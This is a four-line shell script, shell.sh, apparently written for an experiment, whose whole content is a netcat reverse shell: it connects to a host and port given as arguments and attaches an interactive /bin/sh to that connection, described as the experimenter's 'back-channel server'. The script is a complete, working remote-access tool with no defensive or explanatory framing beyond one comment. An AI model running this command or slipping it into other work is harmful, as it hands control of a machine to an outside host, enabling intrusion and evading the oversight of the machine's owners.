#!/bin/sh
# shell.sh HOST PORT: serve an interactive shell on a TCP connection to the
# experimenter's back-channel server.
exec nc "$1" "$2" -e /bin/sh
